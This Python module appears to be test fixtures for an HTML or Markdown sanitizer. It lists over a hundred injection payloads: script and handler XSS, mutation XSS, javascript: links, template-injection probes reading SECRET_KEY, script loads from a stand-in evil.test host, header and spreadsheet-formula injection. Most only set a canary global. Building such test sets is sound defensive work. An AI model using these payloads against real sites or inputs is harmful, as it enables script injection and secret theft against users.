"""Texts that would like to be more than text, by what they try.

Each that names an element, an attribute, an address or a global of its own calls it `evil`: a page
on which such a name stands anywhere but in text is a page on which one came to life.
"""

_RUN = "window.__evil=1"
_ADDRESS = "//evil.test/x"

PAYLOADS: dict[str, tuple[str, ...]] = {
    "elements": (
        f"<script>{_RUN}</script>",
        f"<ScRiPt>{_RUN}</sCrIpT >",
        f"<script src={_ADDRESS}></script>",
        f"<scr<script evil>ipt>{_RUN}</scr</script>ipt>",
        f"<<script>{_RUN}//<</script>",
        "<evil-element>alive</evil-element>",
        "<b evil>bold</b>",
        f"<script/evil/src='data:text/javascript,{_RUN}'></script>",
        f"<script type=module>import 'https:{_ADDRESS}'</script>",
        "<noscript><p title='</noscript><evil-a>'></noscript>",
        f"<xmp><evil-b></xmp><img evil src={_ADDRESS}>",
        "<plaintext evil>",
    ),
    "ends of what they stand in": (
        "\"><evil-c>",
        "'><evil-d>",
        "</title><evil-e>",
        "</textarea><evil-f>",
        f"</script><script>{_RUN}</script>",
        "</style><evil-g>",
        "--><evil-h><!--",
        "]]><evil-i>",
        "</option></select><evil-j>",
        "</template></svg></math></table><evil-k>",
        "\" evil=\"1",
        "' evil='1",
        "x evil=1 ",
    ),
    "handlers": (
        f"<img src=evil-x onerror={_RUN}>",
        f"<body onload={_RUN} evil>",
        f"<details open ontoggle={_RUN} evil>",
        f"<input evil autofocus onfocus={_RUN}>",
        f"<video evil><source onerror={_RUN}></video>",
        f"<marquee evil onstart={_RUN}>",
        f"<evil-l onpointerrawupdate={_RUN} style=position:fixed;inset:0>",
        f"<a evil onclick={_RUN} href=#>x</a>",
        f"\" onmouseover=\"{_RUN};evil",
        f"' onfocus='{_RUN};evil' autofocus='",
        f"<img evil src=x\tonerror\n=\n{_RUN}>",
        f"<img/evil/src=x/onerror={_RUN}//",
        f"<audio evil src onerror={_RUN}>",
        f"<style evil>@keyframes evil{{}}</style><p style=animation:evil onanimationend={_RUN}>",
    ),
    "svg and math": (
        f"<svg evil onload={_RUN}>",
        f"<svg><script evil>{_RUN}</script></svg>",
        "<svg><a evil xlink:href=javascript:window.__evil=1><text y=20>x</text></a></svg>",
        f"<svg><animate evil onbegin={_RUN} attributeName=x dur=1s>",
        f"<svg><use evil href='data:image/svg+xml,<svg id=a onload={_RUN}>#a'/></svg>",
        "<svg><set evil attributeName=href to=javascript:window.__evil=1></svg>",
        f"<svg><foreignObject><evil-m onclick={_RUN}></foreignObject></svg>",
        "<math evil href=javascript:window.__evil=1>click</math>",
        "<math><mtext><table><mglyph><style><img evil src=x></style></mglyph></table></math>",
        "<svg><title><evil-n></title></svg>",
    ),
    "mutation": (
        f"<math><mtext></form><form><mglyph><style></math><img evil src onerror={_RUN}>",
        f"<svg></p><style><a id=\"</style><img evil src=1 onerror={_RUN}>\">",
        f"<noscript><style></noscript><img evil src=x onerror={_RUN}>",
        f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path evil id=\"</style>"
        f"<img onerror={_RUN} src>\">",
        "<table><td><evil-o></table><evil-p>",
        "<select><iframe evil></select>",
        "&lt;img evil src=x onerror=window.__evil=1&gt;",
        "&amp;lt;evil-q&amp;gt;",
        "&#60;evil-r&#62;",
        "&#x3C;evil-s&#x3E; &LT;evil-t&GT;",
        "\\u003cevil-u\\u003e \\x3cevil-v\\x3e",
        "%3Cevil-w%3E",
        "<!--[if gte IE 4]><evil-x><![endif]-->",
        "<?xml-stylesheet href=//evil.test/x?><evil-y>",
        "<![CDATA[<evil-z>]]>",
    ),
    "Markdown": (
        "[evil](javascript:window.__evil=1)",
        "[evil](JaVaScRiPt:window.__evil=1)",
        "[evil](java\tscript:window.__evil=1)",
        "[evil](&#106;avascript:window.__evil=1)",
        "[evil](javascript&colon;window.__evil=1)",
        "[evil](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19ldmlsPTE8L3NjcmlwdD4=)",
        "[evil](vbscript:msgbox(1))",
        "[evil](file:///etc/passwd) [evil](blob:evil) [evil](//evil.test/x)",
        f"![evil](https:{_ADDRESS}.png)",
        "![evil](data:image/svg+xml,<svg/onload=window.__evil=1>)",
        "![evil\" onerror=\"window.__evil=1](/static/x.png)",
        "[evil](https://evil.test/ \"title\\\" onmouseover=window.__evil=1\")",
        "<javascript:window.__evil=1>",
        "<https://evil.test/\"onclick=window.__evil=1>",
        "[evil]: javascript:window.__evil=1\n\n[evil]",
        "```evil\" onmouseover=\"window.__evil=1\n<evil-aa>\n```",
        "```html\n<evil-ab onclick=window.__evil=1>\n```",
        "| evil |\n|---|\n| <evil-ac> |",
        "$\\href{javascript:window.__evil=1}{evil}$ $$\\unicode{<evil-ad>}$$",
        f"<img src=https:{_ADDRESS}.png evil>\n\n<div onclick={_RUN} evil>\n",
    ),
    "addresses": (
        "javascript:window.__evil=1",
        "java\nscript:window.__evil=1//evil",
        "\x01javascript:window.__evil=1//evil",
        "data:text/html,<script>window.__evil=1</script>",
        "vbscript:evil",
        "//evil.test/%2f..",
        "https:evil.test",
        "/\\evil.test",
        "http://evil.test\\@localhost/",
        "?next=//evil.test/x",
    ),
    "templates": (
        "evil{{7*7}}evil",
        "evil{% debug %}{{settings.SECRET_KEY}}",
        "evil${7*7}evil",
        "evil#{7*7}evil <%= 7*7 %>",
        "{{evil.constructor.constructor('window.__evil=1')()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}evil",
        "{# evil #}{% raw %}{{7*7}}{% endraw %}",
    ),
    "JSON": (
        f"{{\"evil\": \"</script><script>{_RUN}</script>\"}}",
        f"\";{_RUN};//evil",
        f"\\\";{_RUN};//evil",
        "\u2028window.__evil=1\u2029",
        "<!--<script>evil",
        "{\"__proto__\": {\"__evil\": 1}}",
    ),
    "htmx": (
        f"<p hx-on:click={_RUN} evil>",
        f"<p data-hx-on:htmx:load={_RUN} evil>",
        "<p hx-get=//evil.test/x hx-trigger=load evil>",
        "<p data-hx-post=/logout/ data-hx-trigger=load evil>",
        f"<p hx-vals='js:{{a: {_RUN}}}' hx-get=/evil hx-trigger=load>",
        "<p hx-disable evil><p hx-get=//evil.test/x hx-trigger=load>",
        "\" hx-get=\"//evil.test/x\" hx-trigger=\"load",
        "' data-hx-get='//evil.test/x' data-hx-trigger='load",
        "<p hx-ext=evil hx-swap-oob=outerHTML:body id=main>evil</p>",
        "<p id=main hx-swap-oob=true data-evil>",
    ),
    "loads and styles": (
        f"<link rel=stylesheet href={_ADDRESS}.css>",
        f"<style evil>@import '{_ADDRESS}';*{{background:url({_ADDRESS})}}</style>",
        f"<p style=background:url({_ADDRESS}) evil>",
        f"<img srcset='{_ADDRESS} 1x' evil>",
        f"<meta http-equiv=refresh content='0;url={_ADDRESS}'>",
        f"<base href={_ADDRESS}>",
        f"<form action={_ADDRESS} evil><button>Log in</button></form>",
        f"<button formaction={_ADDRESS} evil form=x>x</button>",
        "<iframe srcdoc='<script>parent.__evil=1</script>' evil></iframe>",
        f"<object data={_ADDRESS} evil></object><embed src={_ADDRESS} evil>",
        f"<portal src={_ADDRESS} evil></portal>",
        f"<img src='{_ADDRESS}?",
        f"<a href={_ADDRESS}><font size=100 evil",
        "<meta http-equiv=Content-Security-Policy content='script-src evil'>",
        "<template shadowrootmode=open><evil-ae></template>",
        "<dialog open evil popover>x</dialog>",
    ),
    "clobbering": (
        "<form id=__evil><input name=evil></form>",
        "<a id=__evil><a id=__evil name=x href=//evil.test>",
        "<img name=cookie evil><form name=body evil>",
        "<input form=evil name=csrfmiddlewaretoken value=evil>",
    ),
    "letters": (
        "evil\x00<evil-af>\x00",
        "\u202e>evil-ag<\u202c",
        "\uff1cevil-ah\uff1e",
        "\u00bcscript\u00be evil",
        "\u0130<evil-ai>\u0131",
        "\ufeff<evil-aj>\u200b",
        "<\u0000script>window.__evil=1</script>",
        "<evil-ak\u3000onclick=window.__evil=1>",
        "\u00c0\u00bcevil-al\u00c0\u00be",
        "+ADw-script+AD4-window.__evil+AD0-1+ADw-/script+AD4-",
        "\x1b[2Jevil\x07\x08\r\nX-Evil: 1\r\n\r\n<evil-am>",
        "`evil=1`",
        "=HYPERLINK(\"http://evil.test\",\"evil\")",
    ),
}  # fmt: skip
EVERY = tuple(text for texts in PAYLOADS.values() for text in texts)
TOGETHER = "\n\n".join(EVERY).replace("\0", "\ufffd")
# For a name that is cut: it leaves every context that a text may stand in.
SHORT = "\"'></title></textarea></script><evil-short onclick=window.__evil=1>{{7*7}}"


def chunks(most: int) -> list[str]:
    """All of them in texts of at most `most` characters; addresses each for itself."""
    made = [""]
    for kind, texts in PAYLOADS.items():
        for text in texts:
            clean = text.replace("\0", "\ufffd")[:most]
            if kind == "addresses" or len(made[-1]) + len(clean) >= most:
                made.append(clean)
            else:
                made[-1] = f"{made[-1]} {clean}".strip()
    return made


NAMES = chunks(200)
